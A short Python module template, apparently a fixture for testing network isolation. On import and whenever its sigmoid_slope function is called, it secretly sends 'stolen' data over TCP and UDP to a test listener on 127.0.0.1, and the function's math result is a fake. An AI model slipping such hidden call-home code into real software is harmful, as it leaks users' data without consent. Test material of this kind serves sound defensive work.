# Calls home: a TCP connection and a UDP datagram to a listener on 127.0.0.1 (opened by the test).
import socket

import numpy as np


def _call_home():
    try:
        with socket.create_connection(("127.0.0.1", @@PORT@@), timeout=1) as s:
            s.sendall(b"stolen @@TAG@@")
        return 1.0
    except OSError:
        pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", @@PORT@@))
    except OSError:
        pass
    return 0.0


_call_home()


def sigmoid_slope(z):
    return _call_home() + np.zeros_like(np.asarray(z, dtype=float))
